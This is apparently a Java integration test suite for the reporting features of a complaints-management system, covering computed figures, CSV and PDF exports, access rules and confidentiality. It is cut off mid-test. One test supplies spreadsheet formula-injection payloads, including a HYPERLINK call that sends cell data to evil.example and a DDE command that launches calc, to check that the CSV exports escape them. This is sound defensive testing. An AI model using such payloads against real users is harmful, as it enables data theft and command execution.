package org.hearken.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hearken.support.CaseBuilder.aCase;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.text.PDFTextStripper;
import org.hearken.identity.Role;
import org.hearken.policy.PolicyTestSupport;
import org.hearken.support.ApiClient;
import org.hearken.support.CaseBuilder;
import org.hearken.support.FormSession;
import org.hearken.support.IntegrationTest;
import org.hearken.support.PdfFonts;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * A known set of cases taken through their lifecycle under the SAFETRAC plan (Brisbane, no daylight saving; same-day
 * first reply to calls and e-mails, respond in 5 working days, internal review), then every figure of the report
 * checked against a count done by hand. Monday 2 March 2026 to Monday 16 March 2026 has no Queensland holiday.
 */
class ReportsIT extends IntegrationTest {

    ApiClient admin;

    @BeforeEach
    void safetrac() throws Exception {
        admin = as(staffWithoutDepartment(Role.ADMIN));
        PolicyTestSupport.ensureActive(admin, "safetrac");
    }

    @AfterEach
    void metart() throws Exception {
        PolicyTestSupport.ensureActive(admin, "metart");
    }

    private static Instant at(String brisbane) {
        return OffsetDateTime.parse(brisbane + "+10:00").toInstant();
    }

    private void now(String brisbane) {
        clock.set(at(brisbane));
    }

    private String open(
            ApiClient by,
            String department,
            String kind,
            String channel,
            String receivedAt,
            boolean confidential,
            Map<String, Object> resolvedAtFirstContact) {
        CaseBuilder c = aCase(kind)
                .by(channel)
                .receivedAt(receivedAt + "+10:00")
                .subject(kind + " by " + channel)
                .description("Details of the " + kind.toLowerCase() + ".")
                // No e-mail address: nothing is acknowledged automatically, so every stage happens when the test says.
                .from("Robin Customer")
                .phone("07 5550 1000")
                .prefersReplyBy("PHONE")
                .inDepartment(department)
                .confidential(confidential);
        if (resolvedAtFirstContact != null) {
            c.with("resolvedAtFirstContact", resolvedAtFirstContact);
        }
        return c.openedBy(by);
    }

    /** Decimals kept as written (50.00 stays 50.00), as a spreadsheet reads the CSV. */
    private static final tools.jackson.databind.json.JsonMapper JSON = tools.jackson.databind.json.JsonMapper.builder()
            .enable(tools.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .build();

    private static JsonNode ok(ApiClient.Response r) {
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return JSON.readTree(r.body());
    }

    record Known(Dept dept, String manager, String executive, String reviewer, Map<String, String> refs) {}

    /** The cases A–H in one department, I in another and J before the range; the comments give the hand count. */
    private Known knownCases() {
        Dept d = department();
        Dept other = department();
        String exec = staffWithoutDepartment(Role.EXECUTIVE);
        String reviewer = staffWithoutDepartment(Role.EXECUTIVE);
        ApiClient lead = d.as(d.lead);
        Map<String, String> refs = new LinkedHashMap<>();

        now("2026-02-27T10:10:00");
        refs.put(
                "J",
                open(
                        lead,
                        d.code,
                        "QUESTION",
                        "PHONE",
                        "2026-02-27T10:00:00",
                        false,
                        Map.of("resolution", "Answered on the phone.", "outcome", "RESOLVED")));
        now("2026-03-02T10:05:00");
        refs.put("A", open(lead, d.code, "COMPLAINT", "EMAIL", "2026-03-02T10:00:00", false, null));
        refs.put("B", open(lead, d.code, "COMPLAINT", "WEB_FORM", "2026-03-02T10:00:00", false, null));
        refs.put(
                "C",
                open(
                        lead,
                        d.code,
                        "QUESTION",
                        "PHONE",
                        "2026-03-02T10:00:00",
                        false,
                        Map.of(
                                "resolution",
                                "Explained the opening hours.",
                                "outcome",
                                "RESOLVED",
                                "category",
                                "INFORMATION")));
        refs.put("I", open(other.as(other.lead), other.code, "COMPLAINT", "EMAIL", "2026-03-02T10:00:00", false, null));
        now("2026-03-02T11:00:00");
        ok(lead.post("/api/cases/" + refs.get("A") + "/acknowledge", Map.of("via", "PHONE_CALL")));
        now("2026-03-02T18:05:00");
        // Received after close of business: its "same working day" is Tuesday.
        refs.put("D", open(lead, d.code, "SERVICE_REQUEST", "EMAIL", "2026-03-02T18:00:00", false, null));
        now("2026-03-03T09:30:00");
        ok(lead.post("/api/cases/" + refs.get("D") + "/acknowledge", Map.of("via", "PHONE_CALL")));
        now("2026-03-03T10:05:00");
        refs.put("G", open(lead, d.code, "COMPLAINT", "EMAIL", "2026-03-03T10:00:00", true, null));
        now("2026-03-03T12:00:00");
        ok(lead.post("/api/cases/" + refs.get("G") + "/acknowledge", Map.of("via", "PHONE_CALL")));
        now("2026-03-04T10:00:00");
        ok(lead.post(
                "/api/cases/" + refs.get("A") + "/respond",
                Map.of(
                        "channel",
                        "PHONE_CALL",
                        "resolution",
                        "Fixed and refunded.",
                        "outcome",
                        "UPHELD",
                        "category",
                        "DELAY",
                        "remedies",
                        List.of(Map.of("type", "REFUND", "value", "50.00", "status", "ACCEPTED")))));
        ok(lead.post("/api/cases/" + refs.get("A") + "/close", Map.of()));
        ok(lead.post("/api/cases/" + refs.get("B") + "/acknowledge", Map.of("via", "PHONE_CALL")));
        now("2026-03-05T10:00:00");
        ok(lead.post(
                "/api/cases/" + refs.get("B") + "/extend",
                Map.of(
                        "newDueDate",
                        "2026-03-11",
                        "reason",
                        "Waiting for the contractor's records",
                        "noticeChannel",
                        "PHONE_CALL")));
        refs.put("F", open(lead, d.code, "COMPLIMENT", "EMAIL", "2026-03-05T10:00:00", false, null));
        now("2026-03-06T16:05:00");
        refs.put("E", open(lead, d.code, "COMPLAINT", "POSTAL", "2026-03-06T16:00:00", false, null));
        now("2026-03-09T10:00:00");
        ok(lead.post("/api/cases/" + refs.get("E") + "/acknowledge", Map.of("via", "PHONE_CALL")));
        now("2026-03-10T10:00:00");
        ok(lead.post(
                "/api/cases/" + refs.get("B") + "/respond",
                Map.of(
                        "channel",
                        "PHONE_CALL",
                        "resolution",
                        "The visit was on time.",
                        "outcome",
                        "NOT_UPHELD",
                        "reasons",
                        "The records show the visit took place.",
                        "category",
                        "DELAY")));
        ok(lead.post("/api/cases/" + refs.get("B") + "/close", Map.of()));
        now("2026-03-11T10:00:00");
        ok(lead.post(
                "/api/cases/" + refs.get("B") + "/request-review",
                Map.of("reason", "Customer disagrees", "reviewer", reviewer)));
        now("2026-03-12T10:00:00");
        ok(as(reviewer)
                .post(
                        "/api/cases/" + refs.get("B") + "/decide-review",
                        Map.of(
                                "decision",
                                "UPHELD",
                                "channel",
                                "PHONE_CALL",
                                "response",
                                "The first answer stands.",
                                "reasons",
                                "The records are clear.")));
        ok(as(reviewer).post("/api/cases/" + refs.get("B") + "/close", Map.of()));
        now("2026-03-16T09:05:00");
        refs.put("H", open(lead, d.code, "SUGGESTION", "PHONE", "2026-03-16T09:00:00", false, null));
        now("2026-03-16T10:00:00");
        ok(lead.post(
                "/api/cases/" + refs.get("E") + "/respond",
                Map.of(
                        "channel",
                        "PHONE_CALL",
                        "resolution",
                        "We apologise.",
                        "outcome",
                        "PARTLY_UPHELD",
                        "reasons",
                        "Part of the complaint concerned another body.",
                        "category",
                        "STAFF_CONDUCT",
                        "remedies",
                        List.of(Map.of("type", "APOLOGY")))));
        now("2026-03-16T12:00:00");
        return new Known(d, d.lead, exec, reviewer, refs);
    }

    private static final String RANGE = "from=2026-03-02&to=2026-03-16";

    /** Survey results for A (rated 5, with a comment) and B (rated 2); C's survey could not be sent. */
    private void surveys(Known k) {
        String invite = """
                insert into survey_invitation (case_id, closed_at, due_at, status, token_hash, not_sent_reason, created_at, processed_at,
                                               answer_by)
                select id, closed_at, closed_at, ?, ?, ?, closed_at, closed_at, closed_at + cast(? as interval) from cases where reference = ?
                on conflict (case_id) do update set status = excluded.status, token_hash = excluded.token_hash,
                    not_sent_reason = excluded.not_sent_reason, processed_at = excluded.processed_at, answer_by = excluded.answer_by""";
        jdbc.sql(invite)
                .params(
                        "SENT",
                        unique().getBytes(StandardCharsets.UTF_8),
                        null,
                        "30 days",
                        k.refs().get("A"))
                .update();
        jdbc.sql(invite)
                .params(
                        "SENT",
                        unique().getBytes(StandardCharsets.UTF_8),
                        null,
                        "30 days",
                        k.refs().get("B"))
                .update();
        jdbc.sql(invite)
                .params("NOT_SENT", null, "no e-mail address", null, k.refs().get("C"))
                .update();
        String answer =
                "insert into survey_answer (case_id, rating, comment, answered_at) select id, ?, ?, closed_at from cases where reference = ?";
        jdbc.sql(answer).params(5, "Quick and kind", k.refs().get("A")).update();
        jdbc.sql(answer).params(2, null, k.refs().get("B")).update();
    }

    @Test
    void everyFigureMatchesTheHandCount() {
        Known k = knownCases();
        surveys(k);
        JsonNode report = ok(as(k.executive()).get("/api/reports?" + RANGE + "&department=" + k.dept().code));
        JsonNode h = report.get("headline");

        // A–H received in the range; I is another department's, J came before the range. G is confidential.
        assertThat(h.get("received").asLong()).isEqualTo(8);
        assertThat(h.get("confidential").asLong()).isEqualTo(1);
        // Acknowledged on time: A, C, D, E, G; late: B (Wednesday for Tuesday) and F (never, due Thursday); H still in
        // time.
        assertFigures(h.get("acknowledgement"), Map.of("onTime", 5L, "late", 2L, "pending", 1L, "decided", 7L), "71.4");
        // Response on time: A, C; after extension: B; late: E (answered after Friday 13), D and G (still unanswered).
        JsonNode resp = h.get("response");
        assertThat(resp.get("onTime").asLong()).isEqualTo(2);
        assertThat(resp.get("onTimeAfterExtension").asLong()).isEqualTo(1);
        assertThat(resp.get("late").asLong()).isEqualTo(3);
        assertThat(resp.get("lateStillOpen").asLong()).isEqualTo(2);
        assertThat(resp.get("pending").asLong()).isZero();
        assertThat(resp.get("decided").asLong()).isEqualTo(6);
        assertThat(resp.get("onTimePercent").decimalValue()).isEqualByComparingTo("33.3");
        assertThat(resp.get("onTimeAfterExtensionPercent").decimalValue()).isEqualByComparingTo("16.7");
        assertThat(resp.get("latePercent").decimalValue()).isEqualByComparingTo("50.0");
        // Resolved at first contact: C of 8.
        assertRate(h.get("firstContactResolution"), 1, 8, "12.5");
        // Same working day: A, C, G, and D (received after close on Monday, answered Tuesday morning); not B, E, F; H
        // pending.
        assertRate(h.get("sameDayFirstReply"), 4, 7, "57.1");
        // Complaints decided: A upheld, E partly upheld, B not upheld (the review upheld the first answer).
        JsonNode uphold = h.get("complaintsUpheld");
        assertThat(uphold.get("upheld").asLong()).isEqualTo(1);
        assertThat(uphold.get("partlyUpheld").asLong()).isEqualTo(1);
        assertThat(uphold.get("notUpheld").asLong()).isEqualTo(1);
        assertThat(uphold.get("upholdPercent").decimalValue()).isEqualByComparingTo("66.7");

        JsonNode tables = report.get("tables");
        assertThat(row(tables, "compliance", "Acknowledged on time"))
                .containsExactly("Acknowledged on time", "5", "7", "71.4");
        assertThat(row(tables, "compliance", "First reply the same working day"))
                .containsExactly("First reply the same working day", "4", "7", "57.1");
        assertThat(row(tables, "departments", k.dept().code))
                .containsExactly(
                        k.dept().code,
                        "Department " + k.dept().code,
                        "8",
                        "71.4",
                        "2",
                        "1",
                        "3",
                        "33.3",
                        "16.7",
                        "50.0");
        // Volumes: Monday 2 March has A, B, C and D (received Monday evening); by kind over the whole range.
        assertThat(row(tables, "volume-by-kind", "2026-03-02"))
                .containsExactly("2026-03-02", "2", "1", "1", "0", "0", "4");
        assertThat(column(tables, "volume-by-kind", "COMPLAINT")).isEqualTo(4);
        assertThat(column(tables, "volume-by-kind", "SUGGESTION")).isEqualTo(1);
        assertThat(column(tables, "volume-by-channel", "EMAIL")).isEqualTo(4);
        assertThat(column(tables, "volume-by-channel", "PHONE")).isEqualTo(2);
        assertThat(column(tables, "volume-by-channel", "total")).isEqualTo(8);
        assertThat(row(tables, "categories", "DELAY")).containsExactly("DELAY", "Delay", "2", "50.0", "2");
        assertThat(row(tables, "categories", "INFORMATION"))
                .containsExactly("INFORMATION", "Information", "1", "25.0", "0");
        assertThat(row(tables, "categories", "STAFF_CONDUCT"))
                .containsExactly("STAFF_CONDUCT", "Staff conduct", "1", "25.0", "1");
        // Open now: D, E, F, G six to ten business days old (D, F, G overdue), H received today.
        assertThat(row(tables, "backlog", "0–1")).containsExactly("0–1", "1", "0");
        assertThat(row(tables, "backlog", "6–10")).containsExactly("6–10", "4", "3");
        assertThat(row(tables, "extensions", "RESPOND")).containsExactly("RESPOND", "1", "1", "0", "1");
        assertThat(row(tables, "extension-reasons", "Waiting for the contractor's records"))
                .containsExactly("Waiting for the contractor's records", "1");
        assertThat(row(tables, "reviews", "Requested")).containsExactly("Requested", "1", null, null);
        assertThat(row(tables, "reviews", "First response upheld"))
                .containsExactly("First response upheld", "1", "1", "100.0");
        assertThat(row(tables, "reviews", "Decided on time")).containsExactly("Decided on time", "1", "1", "100.0");
        assertThat(row(tables, "review-list", k.refs().get("B")).get(6)).isEqualTo("MET");
        assertThat(row(tables, "outcomes", "NOT_UPHELD")).containsExactly("NOT_UPHELD", "1", "25.0", "1", "33.3");
        assertThat(row(tables, "outcomes", "RESOLVED")).containsExactly("RESOLVED", "1", "25.0", "0", "0.0");
        assertThat(row(tables, "remedies", "REFUND")).containsExactly("REFUND", "1", "1", "0", "0", "50.00", "50.00");
        assertThat(row(tables, "remedies", "APOLOGY")).containsExactly("APOLOGY", "1", "0", "0", "1", "0", "0");
        assertThat(row(tables, "breaches", "ACKNOWLEDGE")).containsExactly("ACKNOWLEDGE", "2", "1");
        assertThat(row(tables, "breaches", "RESPOND")).containsExactly("RESPOND", "3", "2");
        // Satisfaction: two surveys sent and answered (5 and 2), one not sent.
        assertThat(row(tables, "satisfaction", "Survey invitations sent"))
                .containsExactly("Survey invitations sent", "2", null, null);
        assertThat(row(tables, "satisfaction", "Not sent (no usable e-mail address)")
                        .get(1))
                .isEqualTo("1");
        assertThat(row(tables, "satisfaction", "Answered")).containsExactly("Answered", "2", "2", "100.0");
        assertThat(row(tables, "satisfaction", "Average rating (1 to 5)").get(1))
                .isEqualTo("3.50");
        assertThat(row(tables, "satisfaction", "Rated 5")).containsExactly("Rated 5", "1", "2", "50.0");
        assertThat(row(tables, "satisfaction", "Satisfied (rated 4 or 5)"))
                .containsExactly("Satisfied (rated 4 or 5)", "1", "2", "50.0");
        assertThat(row(tables, "satisfaction", "With a comment")).containsExactly("With a comment", "1", "2", "50.0");
        // The confidential case G counts above but is never listed.
        List<String> listed = new ArrayList<>();
        tables.get("breach-list")
                .get("rows")
                .forEach(r -> listed.add(r.get(0).asString() + " " + r.get(3).asString()));
        assertThat(listed)
                .containsExactlyInAnyOrder(
                        k.refs().get("B") + " ACKNOWLEDGE",
                        k.refs().get("F") + " ACKNOWLEDGE",
                        k.refs().get("D") + " RESPOND",
                        k.refs().get("E") + " RESPOND");
        assertThat(report.toString()).doesNotContain(k.refs().get("G"));

        // The compliance endpoint (the main query) gives the same headline.
        assertThat(ok(as(k.executive()).get("/api/reports/compliance?" + RANGE + "&department=" + k.dept().code))
                        .get("headline"))
                .isEqualTo(h);
        // The department's manager sees the same figures for their own department without naming it.
        assertThat(ok(as(k.manager()).get("/api/reports/compliance?" + RANGE)).get("headline"))
                .isEqualTo(h);
    }

    @Test
    void csvOfEveryTableHasTheFiguresOfTheJson() {
        Known k = knownCases();
        String query = RANGE + "&department=" + k.dept().code;
        JsonNode tables = ok(as(k.executive()).get("/api/reports?" + query)).get("tables");
        for (String name : Reports.TABLES) {
            ApiClient.Response csv = as(k.executive()).get("/api/reports/" + name + ".csv?" + query);
            assertThat(csv.status()).as(name).isEqualTo(200);
            assertThat(csv.header("Content-Type")).startsWith("text/csv");
            assertThat(csv.header("Content-Disposition"))
                    .contains("attachment")
                    .contains(name + "-2026-03-02-to-2026-03-16.csv");
            String body = csv.body();
            assertThat(body).as("UTF-8 byte order mark").startsWith("\uFEFF");
            assertThat(body).contains("\r\n");
            List<CSVRecord> records = parse(body.substring(1));
            JsonNode table = tables.get(name);
            List<String> header = new ArrayList<>();
            table.get("columns").forEach(c -> header.add(c.get("label").asString()));
            assertThat(records.getFirst().toList()).as(name).isEqualTo(header);
            assertThat(records).as(name).hasSize(table.get("rows").size() + 1);
            for (int i = 0; i < table.get("rows").size(); i++) {
                List<String> expected = new ArrayList<>();
                table.get("rows").get(i).forEach(cell -> expected.add(cell.isNull() ? "" : cell.asString()));
                assertThat(records.get(i + 1).toList()).as(name + " row " + i).isEqualTo(expected);
            }
        }
        List<CSVRecord> compliance = parse(as(k.executive())
                .get("/api/reports/compliance.csv?" + query)
                .body()
                .substring(1));
        assertThat(compliance.get(2).toList()).containsExactly("Acknowledged on time", "5", "7", "71.4");
    }

    @Test
    void managersSeeOnlyTheirDepartmentsAgentsAndAdministratorsNone() {
        Dept mine = department();
        Dept theirs = department();
        String agent = mine.staff(Role.AGENT);
        assertThat(as(mine.lead)
                        .get("/api/reports/compliance?department=" + mine.code)
                        .status())
                .isEqualTo(200);
        assertThat(as(mine.lead)
                        .get("/api/reports/compliance?department=" + theirs.code)
                        .status())
                .isEqualTo(403);
        assertThat(as(mine.lead)
                        .get("/api/reports/compliance.csv?department=" + theirs.code)
                        .status())
                .isEqualTo(403);
        assertThat(as(mine.lead)
                        .get("/api/reports/pack.pdf?department=" + theirs.code)
                        .status())
                .isEqualTo(403);
        assertThat(as(agent).get("/api/reports").status()).isEqualTo(403);
        assertThat(as(agent).get("/api/reports/suggestions").status()).isEqualTo(403);
        assertThat(admin.get("/api/reports/compliance").status()).isEqualTo(403);
        assertThat(anonymous().get("/api/reports").status()).isEqualTo(401);
        ApiClient.Response bad = as(mine.lead).get("/api/reports?from=2026-03-10&to=2026-03-01");
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.json().get("errors").get(0).get("field").asString()).isEqualTo("from");
        assertThat(as(staffWithoutDepartment(Role.EXECUTIVE))
                        .get("/api/reports/compliance?department=NOSUCH")
                        .status())
                .isEqualTo(400);
    }

    @Test
    void reviewPackRendersTheFiguresAndCharts() throws Exception {
        Known k = knownCases();
        ApiClient.Response r = as(k.executive()).get("/api/reports/pack.pdf?" + RANGE + "&department=" + k.dept().code);
        assertThat(r.status()).isEqualTo(200);
        assertThat(r.header("Content-Type")).isEqualTo("application/pdf");
        byte[] pdf = pdfBytes(k.executive(), "/api/reports/pack.pdf?" + RANGE + "&department=" + k.dept().code);
        // Kept for a person to look at.
        java.nio.file.Files.write(java.nio.file.Path.of("target/review-pack-sample.pdf"), pdf);
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            String text = new PDFTextStripper().getText(doc);
            assertThat(text)
                    .contains("Management review pack")
                    .contains("Headline figures against the policy's targets")
                    .contains("71.4 %")
                    .contains("33.3 %")
                    .contains("57.1 %")
                    .contains("66.7 %")
                    .contains("Top categories")
                    .contains("Delay")
                    .contains("Breaches")
                    .contains("Internal reviews")
                    .contains(k.refs().get("B"))
                    .doesNotContain(k.refs().get("G"))
                    .contains("same working day");
            int images = 0;
            for (PDPage page : doc.getPages()) {
                for (var name : page.getResources().getXObjectNames()) {
                    if (page.getResources().getXObject(name) instanceof PDImageXObject) {
                        images++;
                    }
                }
            }
            assertThat(images).as("charts").isGreaterThanOrEqualTo(3);
            // Every font embedded, the page numbers' too.
            PdfFonts.assertOnlyEmbedded(doc, "DejaVuSans", "DejaVuSans-Bold");
        }
    }

    /**
     * In a new department, two suggestions (one of them confidential) and a complaint, received an hour ago, none of
     * them decided on.
     */
    private final class Suggestions {
        final Dept d;
        final Dept other;
        final String agent;
        final ApiClient lead;
        final String suggestion;
        final String secret;
        final String complaint;

        Suggestions() {
            d = department();
            other = department();
            agent = d.staff(Role.AGENT);
            lead = d.as(d.lead);
            suggestion = open(lead, d.code, "SUGGESTION", "EMAIL", anHourAgo(), false, null);
            secret = open(lead, d.code, "SUGGESTION", "EMAIL", anHourAgo(), true, null);
            complaint = open(lead, d.code, "COMPLAINT", "EMAIL", anHourAgo(), false, null);
        }

        /** The lead adopts the (open) suggestion. */
        JsonNode adopted() {
            return ok(lead.put(
                    "/api/reports/suggestions/" + suggestion,
                    "{\"status\":\"ADOPTED\",\"note\":\"Signs go up in May\"}",
                    "application/json"));
        }
    }

    @Test
    void theSuggestionsLogCountsConfidentialSuggestionsButListsOnlyTheOthersAsUndecided() {
        Suggestions s = new Suggestions();
        Dept d = s.d;
        ApiClient lead = s.lead;
        String suggestion = s.suggestion;

        JsonNode log = ok(lead.get("/api/reports/suggestions?department=" + d.code));
        assertThat(log.get("counts").get("UNDER_CONSIDERATION").asLong()).isEqualTo(2);
        assertThat(log.get("confidential").asLong()).isEqualTo(1);
        assertThat(log.get("entries")).hasSize(1);
        assertThat(log.get("entries").get(0).get("reference").asString()).isEqualTo(suggestion);
        assertThat(log.get("entries").get(0).get("undecided").asBoolean()).isTrue();
    }

    @Test
    void aDecisionOnASuggestionIsRecordedWithWhoMadeItInTheRegisterAndFiltersTheLog() {
        Suggestions s = new Suggestions();
        Dept d = s.d;
        ApiClient lead = s.lead;
        String suggestion = s.suggestion;

        JsonNode entry = s.adopted();
        assertThat(entry.get("status").asString()).isEqualTo("ADOPTED");
        assertThat(entry.get("note").asString()).isEqualTo("Signs go up in May");
        assertThat(entry.get("changedBy").asString()).isEqualTo(d.lead);
        JsonNode events = ok(lead.get("/api/cases/" + suggestion + "/events"));
        List<String> types = new ArrayList<>();
        events.forEach(e -> types.add(e.get("type").asString()));
        assertThat(types).contains("ImprovementStatusChanged");

        JsonNode log = ok(lead.get("/api/reports/suggestions?department=" + d.code + "&status=ADOPTED"));
        assertThat(log.get("counts").get("ADOPTED").asLong()).isEqualTo(1);
        assertThat(log.get("counts").get("UNDER_CONSIDERATION").asLong()).isEqualTo(1);
        assertThat(log.get("entries")).hasSize(1);
    }

    @Test
    void aDecisionIsRefusedAndChangesNothingForANonSuggestionAnOutsiderAStaleVersionOrAnUnknownStatus() {
        Suggestions s = new Suggestions();
        Dept d = s.d;
        Dept other = s.other;
        String agent = s.agent;
        ApiClient lead = s.lead;
        String suggestion = s.suggestion;
        String secret = s.secret;
        String complaint = s.complaint;
        s.adopted();

        // Refused, and nothing changes: not a suggestion, not a manager, another department's manager, a stale version.
        String body = "{\"status\":\"DECLINED\"}";
        assertThat(lead.put("/api/reports/suggestions/" + complaint, body, "application/json")
                        .status())
                .isEqualTo(409);
        assertThat(as(agent)
                        .put("/api/reports/suggestions/" + suggestion, body, "application/json")
                        .status())
                .isEqualTo(403);
        assertThat(as(other.lead)
                        .put("/api/reports/suggestions/" + suggestion, body, "application/json")
                        .status())
                .isEqualTo(404);
        assertThat(lead.put("/api/reports/suggestions/" + suggestion, body, "application/json", "If-Match", "\"0\"")
                        .status())
                .isEqualTo(412);
        assertThat(lead.put("/api/reports/suggestions/" + suggestion, "{\"status\":\"MAYBE\"}", "application/json")
                        .status())
                .isEqualTo(400);
        assertThat(ok(lead.get("/api/reports/suggestions?department=" + d.code))
                        .get("counts")
                        .get("ADOPTED")
                        .asLong())
                .isEqualTo(1);
        assertThat(secret).isNotBlank();
    }

    /** An open complaint in the department, extended with {@code reason}; about {@code about} when given. */
    private String extended(Dept d, String by, String owner, boolean confidential, List<String> about, String reason) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("kind", "COMPLAINT");
        body.put("channel", "PHONE");
        body.put("receivedAt", "2026-03-02T10:00:00+10:00");
        body.put("subject", "Complaint");
        body.put("description", "Details.");
        body.put("customer", Map.of("name", "Robin Customer", "phone", "07 5550 1000", "preferredReply", "PHONE"));
        body.put("department", d.code);
        body.put("owner", owner);
        body.put("confidential", confidential);
        body.put("aboutStaff", about);
        ApiClient.Response r = as(by).post("/api/cases", body);
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        String ref = r.json().get("reference").asString();
        ok(as(owner)
                .post(
                        "/api/cases/" + ref + "/extend",
                        Map.of("newDueDate", "2026-03-20", "reason", reason, "noticeChannel", "PHONE_CALL")));
        return ref;
    }

    @Test
    void reasonsWrittenOnCasesTheReaderMayNotOpenAreCountedButNeverShown() throws Exception {
        Dept d = department();
        String agent = d.staff(Role.AGENT);
        String executive = staffWithoutDepartment(Role.EXECUTIVE);
        now("2026-03-02T10:05:00");
        String open = "Open" + unique();
        String aboutLead = "AboutLead" + unique();
        String secret = "Secret" + unique();
        String aboutExecutive = "AboutExec" + unique();
        extended(d, d.lead, agent, false, List.of(), open);
        extended(d, agent, agent, false, List.of(d.lead), aboutLead);
        extended(d, d.lead, agent, true, List.of(), secret);
        extended(d, d.lead, agent, false, List.of(executive), aboutExecutive);
        String query = "from=2026-03-01&to=2026-03-31&department=" + d.code;

        // The department's lead may open neither the complaint about him nor the confidential case.
        Map<String, String> leadSees = everyReportAnswer(d.lead, query);
        leadSees.forEach((where, text) ->
                assertThat(text).as(where).doesNotContain(aboutLead).doesNotContain(secret));
        assertThat(leadSees.get("json")).contains(open).contains(aboutExecutive);
        JsonNode reasons =
                ok(as(d.lead).get("/api/reports?" + query)).get("tables").get("extension-reasons");
        assertThat(row(reasons, ReportQueries.UNLISTED_REASON))
                .as("counted, not shown")
                .containsExactly(ReportQueries.UNLISTED_REASON, "2");

        // The executive sees the complaint about the lead, never the one about himself; no list shows a confidential
        // case.
        Map<String, String> executiveSees = everyReportAnswer(executive, query);
        executiveSees.forEach((where, text) ->
                assertThat(text).as(where).doesNotContain(aboutExecutive).doesNotContain(secret));
        assertThat(executiveSees.get("csv")).contains(aboutLead).contains(open);
    }

    private static List<String> row(JsonNode table, String key) {
        for (JsonNode r : table.get("rows")) {
            if (r.get(0).asString().equals(key)) {
                List<String> cells = new ArrayList<>();
                r.forEach(c -> cells.add(c.asString()));
                return cells;
            }
        }
        throw new AssertionError("no row " + key + " in " + table);
    }

    /** The report as JSON, the extension reasons as CSV (API and page), the report page and the review pack's text. */
    private Map<String, String> everyReportAnswer(String username, String query) throws Exception {
        Map<String, String> answers = new LinkedHashMap<>();
        answers.put("json", ok(as(username).get("/api/reports?" + query)).toString());
        answers.put(
                "csv",
                as(username).get("/api/reports/extension-reasons.csv?" + query).body());
        FormSession page = new FormSession(port);
        assertThat(page.signIn(username, PASSWORD)).isTrue();
        answers.put("page", page.get("/reports?" + query).body());
        answers.put(
                "page csv", page.get("/reports/extension-reasons.csv?" + query).body());
        try (PDDocument doc = Loader.loadPDF(pdfBytes(username, "/api/reports/pack.pdf?" + query))) {
            answers.put("pdf", new PDFTextStripper().getText(doc));
        }
        return answers;
    }

    @Test
    void everyCsvWritesTextThatASpreadsheetWouldRunAsAFormulaAsText() {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        Dept d = department();
        String agent = d.staff(Role.AGENT);
        String executive = staffWithoutDepartment(Role.EXECUTIVE);
        accounts.renameDepartment(d.code, "+SUM(1,2)");
        String category = "C" + unique().substring(0, 8);
        assertThat(admin.post("/api/categories", Map.of("code", category, "name", "@cmd|' /C calc'!A0"))
                        .status())
                .isEqualTo(201);
        now("2026-03-02T10:05:00");
        String ref = extended(d, d.lead, agent, false, List.of(), formula);
        ok(as(agent)
                .post(
                        "/api/cases/" + ref + "/respond",
                        Map.of(
                                "channel",
                                "PHONE_CALL",
                                "resolution",
                                "-1+1 done",
                                "outcome",
                                "RESOLVED",
                                "category",
                                category)));
        String query = "from=2026-03-01&to=2026-03-31&department=" + d.code;

        Map<String, String> csvs = new LinkedHashMap<>();
        for (String name : Reports.TABLES) {
            csvs.put(
                    name,
                    as(executive)
                            .get("/api/reports/" + name + ".csv?" + query)
                            .body()
                            .substring(1));
        }
        ApiClient.Response register = as(executive).get("/api/register/export.csv");
        assertThat(register.status()).isEqualTo(200);
        csvs.put("register", register.body());
        csvs.forEach((name, body) -> parse(body)
                .forEach(record -> record.forEach(cell -> assertThat(cell)
                        .as(name + ": " + cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("-")
                        .doesNotStartWith("@")
                        .doesNotStartWith("\t")
                        .doesNotStartWith("\r"))));
        assertThat(parse(csvs.get("extension-reasons")).stream()
                        .map(r -> r.get(0))
                        .toList())
                .contains("'" + formula);
        assertThat(parse(csvs.get("categories")).stream().map(r -> r.get(1)).toList())
                .contains("'@cmd|' /C calc'!A0");
        assertThat(parse(csvs.get("departments")).stream().map(r -> r.get(1)).toList())
                .contains("'+SUM(1,2)");
        assertThat(parse(csvs.get("volume-by-department")).getFirst().toList()).contains("'+SUM(1,2)");
        // The page and the JSON keep the text as it was written: only spreadsheets run formulas.
        assertThat(ok(as(executive).get("/api/reports?" + query))
                        .get("tables")
                        .get("extension-reasons")
                        .toString())
                .contains(formula.replace("\"", "\\\""));
    }

    @Test
    void categoriesAreKeptByAdministratorsAndCheckedAtResponse() {
        Dept d = department();
        ApiClient lead = d.as(d.lead);
        String code = "C" + unique().substring(0, 8);
        assertThat(lead.post("/api/categories", Map.of("code", code, "name", "Test " + code))
                        .status())
                .isEqualTo(403);
        ApiClient.Response created = admin.post("/api/categories", Map.of("code", code, "name", "Test " + code));
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        assertThat(admin.post("/api/categories", Map.of("code", code, "name", "Again " + code))
                        .status())
                .isEqualTo(409);
        assertThat(admin.post("/api/categories", Map.of("code", "lower case", "name", "x"))
                        .status())
                .isEqualTo(400);
        List<String> active = new ArrayList<>();
        ok(lead.get("/api/categories")).forEach(c -> active.add(c.get("code").asString()));
        assertThat(active).contains(code, "DELAY");

        String ref = open(lead, d.code, "COMPLAINT", "EMAIL", anHourAgo(), false, null);
        Map<String, Object> respond =
                new LinkedHashMap<>(Map.of("channel", "PHONE_CALL", "resolution", "Done.", "outcome", "RESOLVED"));
